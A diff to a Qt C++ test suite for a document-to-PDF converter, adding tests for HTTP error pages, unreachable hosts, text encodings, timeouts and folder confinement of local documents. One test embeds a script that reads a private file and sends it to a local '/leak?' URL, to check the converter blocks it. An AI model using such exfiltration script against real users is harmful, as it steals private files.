@@ -23,7 +23,8 @@ constexpr int kConverterWaitMs = 2 * 60 * 1000;
 constexpr int kImageWidth = 37;
 constexpr int kImageHeight = 23;
 
-// Answers every GET on 127.0.0.1 with one fixed HTML page.
+// Answers GETs on 127.0.0.1: paths starting "/missing" with 404, "/broken" with 500, "/hang" never,
+// anything else with one fixed HTML page.
 class PageServer final : public QObject {
 public:
     explicit PageServer(QByteArray page) : m_page(std::move(page)) {
@@ -47,10 +48,19 @@ private:
         request += socket->readAll();
         if (!request.contains("\r\n\r\n"))
             return;
-        requests.append(QString::fromLatin1(request.left(request.indexOf("\r\n"))));
+        const QByteArray line = request.left(request.indexOf("\r\n"));
+        requests.append(QString::fromLatin1(line));
         m_pending.remove(socket);
-        socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: " +
-                      QByteArray::number(m_page.size()) + "\r\nConnection: close\r\n\r\n" + m_page);
+        const QByteArray path = line.split(' ').value(1);
+        if (path.startsWith("/hang"))
+            return;
+        const QByteArray status = path.startsWith("/missing")  ? "404 Not Found"
+                                  : path.startsWith("/broken") ? "500 Internal Server Error"
+                                                               : "200 OK";
+        const QByteArray body = status.startsWith("200") ? m_page : "<html><body>Error page</body></html>";
+        socket->write("HTTP/1.1 " + status +
+                      "\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: " +
+                      QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
         socket->disconnectFromHost();
     }
 
@@ -98,6 +108,12 @@ private slots:
     void localPageWithImageBesideIt();
     void plainTextFile();
     void pageFromLocalServer();
+    void pageOutcomes_data();
+    void pageOutcomes();
+    void localDocumentReadsOnlyItsOwnFolder();
+    void textEncodings_data();
+    void textEncodings();
+    void timeLimitReasonWithoutProgressNoise();
 
 private:
     // Queues the source as the only row and runs the Convert command to its end.
@@ -188,6 +204,128 @@ void TestRealConverter::pageFromLocalServer() {
     QVERIFY(!server.requests.isEmpty());
     QCOMPARE(server.requests.first(), QStringLiteral("GET /tides.html HTTP/1.1"));
     QVERIFY2(PdfText(pdf).contains("Served tide tables for the bay"), qPrintable(PdfText(pdf)));
+}
+
+void TestRealConverter::pageOutcomes_data() {
+    QTest::addColumn<QString>("path"); // on the local server; "refused": a port nobody listens on
+    QTest::addColumn<RowState>("state");
+    QTest::addColumn<QString>("reason");
+
+    QTest::newRow("page found") << "/page.html" << RowState::Converted << "";
+    QTest::newRow("404") << "/missing.html" << RowState::Failed << "The server answered 404 Not Found.";
+    QTest::newRow("500") << "/broken.html" << RowState::Failed
+                         << "The server answered 500 Internal Server Error.";
+    QTest::newRow("host not found") << "host" << RowState::Failed
+                                    << "The host nonexistent.invalid could not be found.";
+    QTest::newRow("connection refused") << "refused" << RowState::Failed << "refused the connection";
+    QTest::newRow("a missing image") << "/with-image.html" << RowState::ConvertedWithWarnings
+                                     << "/missing/chart.png";
+}
+
+void TestRealConverter::pageOutcomes() {
+    QFETCH(QString, path);
+    QFETCH(RowState, state);
+    QFETCH(QString, reason);
+    PageServer server(path.startsWith("/with-image")
+                          ? "<html><body><p>Harbour chart</p><img src=\"/missing/chart.png\"></body></html>"
+                          : "<html><body><p>Harbour page</p></body></html>");
+    QVERIFY(server.Listen());
+    QString source = server.Url(path);
+    if (path == QLatin1String("host")) {
+        source = QStringLiteral("http://nonexistent.invalid/page.html");
+    } else if (path == QLatin1String("refused")) {
+        QTcpServer closed;
+        QVERIFY(closed.listen(QHostAddress::LocalHost));
+        source = QStringLiteral("http://127.0.0.1:%1/page.html").arg(closed.serverPort());
+    }
+
+    ConvertOnly(source);
+
+    QCOMPARE(m_queue->State(0), state);
+    QVERIFY2(reason.isEmpty() ? m_queue->Reason(0).isEmpty() : m_queue->Reason(0).contains(reason),
+             qPrintable(m_queue->Reason(0)));
+    // A page that could not be loaded leaves no PDF of an error page behind.
+    QCOMPARE(QFileInfo::exists(PdfOf(source)), state != RowState::Failed);
+    QCOMPARE(QDir(m_host->targetFolder).entryList(QDir::Files | QDir::Hidden).filter(".velmora-"),
+             QStringList());
+}
+
+// A document added as a file may read its own folder and below, and nothing else; not even through
+// script, which could otherwise send what it read to any server.
+void TestRealConverter::localDocumentReadsOnlyItsOwnFolder() {
+    PageServer server("<html><body>ok</body></html>");
+    QVERIFY(server.Listen());
+    QVERIFY(WriteFile(m_work->filePath("private/marker.txt"), "PRIVATEMARKER"));
+    QImage image(kImageWidth, kImageHeight, QImage::Format_RGB32);
+    image.fill(Qt::darkRed);
+    QVERIFY(QDir().mkpath(m_work->filePath("site/images")));
+    QVERIFY(image.save(m_work->filePath("site/images/own.png")));
+    QVERIFY(WriteFile(m_work->filePath("site/style.css"), "h1:after { content: ' STYLESHEETLOADED'; }"));
+    const QByteArray leak = server.Url("/leak?").toUtf8();
+    QVERIFY(WriteFile(
+        m_work->filePath("site/page.html"),
+        "<html><head><link rel=\"stylesheet\" href=\"style.css\"></head><body><h1>Own page</h1>"
+        "<img src=\"images/own.png\"><iframe src=\"../private/marker.txt\"></iframe>"
+        "<p id=\"out\">none</p><script>"
+        "var text = 'XHRFAILED';"
+        "try { var x = new XMLHttpRequest(); x.open('GET', '../private/marker.txt', false); x.send();"
+        "  text = 'XHR:' + x.responseText; } catch (e) {}"
+        "document.getElementById('out').textContent = text;"
+        "new Image().src = '" +
+            leak +
+            "' + encodeURIComponent(text);"
+            "</script></body></html>"));
+
+    const QString source = m_work->filePath("site/page.html");
+    ConvertOnly(source);
+    const QString pdf = PdfOf(source);
+
+    QVERIFY2(m_queue->State(0) != RowState::Failed, qPrintable(m_queue->Reason(0)));
+    const QString text = PdfText(pdf);
+    QVERIFY2(text.contains("Own page STYLESHEETLOADED"), qPrintable(text));
+    QVERIFY2(PdfImageSizes(pdf).contains(QStringLiteral("%1 x %2").arg(kImageWidth).arg(kImageHeight)),
+             qPrintable(PdfImageSizes(pdf).join(", ")));
+    QVERIFY2(!text.contains("PRIVATEMARKER"), qPrintable(text));
+    QVERIFY2(!server.requests.join('\n').contains("PRIVATEMARKER"), qPrintable(server.requests.join('\n')));
+}
+
+void TestRealConverter::textEncodings_data() {
+    QTest::addColumn<QByteArray>("bytes");
+    QTest::addColumn<QString>("expected");
+
+    QTest::newRow("UTF-8") << QByteArray("Dash \xe2\x80\x93 \xc3\xbcn\xc3\xaf"
+                                         "c\xc3\xb6"
+                                         "d\xc3\xa9 \xe2\x9c\x93\n")
+                           << QString::fromUtf8("Dash \xe2\x80\x93 \xc3\xbcn\xc3\xaf"
+                                                "c\xc3\xb6"
+                                                "d\xc3\xa9 \xe2\x9c\x93");
+    QTest::newRow("Latin-1") << QByteArray("Caf\xe9 na\xefve\n")
+                             << QString::fromUtf8("Caf\xc3\xa9 na\xc3\xafve");
+}
+
+void TestRealConverter::textEncodings() {
+    QFETCH(QByteArray, bytes);
+    QFETCH(QString, expected);
+    QVERIFY(WriteFile(m_work->filePath("notes.txt"), bytes));
+
+    const QString source = m_work->filePath("notes.txt");
+    ConvertOnly(source);
+
+    QCOMPARE(m_queue->State(0), RowState::Converted);
+    QCOMPARE(PdfText(PdfOf(source)), expected);
+}
+
+void TestRealConverter::timeLimitReasonWithoutProgressNoise() {
+    PageServer server("");
+    QVERIFY(server.Listen());
+    m_command->Runner().SetTimeoutMs(4000);
+
+    ConvertOnly(server.Url("/hang.html"));
+
+    QCOMPARE(m_queue->State(0), RowState::Failed);
+    const QString reason = m_queue->Reason(0);
+    QVERIFY2(reason.startsWith("The converter did not finish within 4 seconds"), qPrintable(reason));
+    QVERIFY2(!reason.contains('%') && !reason.contains('['), qPrintable(reason));
 }
 
 QTEST_GUILESS_MAIN(TestRealConverter)
